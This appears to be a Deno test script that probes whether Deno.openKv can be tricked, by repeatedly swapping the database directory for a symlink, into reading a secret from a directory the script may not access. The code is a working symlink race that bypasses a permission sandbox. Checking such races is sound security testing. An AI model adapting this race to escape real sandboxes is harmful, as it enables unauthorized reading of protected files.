// Opens a database in its own directory repeatedly, while it swaps the directory for a link to one that it has no access to.
const [inside, outside] = Deno.args;
const [own, link, aside] = ["own", "link", "aside"].map((name) => `${inside}/${name}`);
Deno.mkdirSync(own);
Deno.symlinkSync(outside, link);
let read = 0;

async function use() {
  try {
    const kv = await Deno.openKv(`${own}/x.db`);
    try {
      if ((await kv.get(["secret"])).value) read++;
      await kv.set(["mine"], 1);
    } finally {
      kv.close();
    }
  } catch (error) {
    if (String(error).includes("/proc/self")) throw error;
  }
}

const end = performance.now() + 4000;
while (performance.now() < end && !read) {
  for (const suffix of ["", "-wal", "-shm"]) {
    try {
      Deno.removeSync(`${own}/x.db${suffix}`);
    } catch {
      // It was not created.
    }
  }
  const used = use();
  // Swaps at a random moment, while another thread opens the database.
  for (let spins = Math.random() * 3000; spins > 0; spins--) performance.now();
  Deno.renameSync(own, aside);
  Deno.renameSync(link, own);
  await used;
  Deno.renameSync(own, link);
  Deno.renameSync(aside, own);
}
console.log(`secrets read: ${read}`);
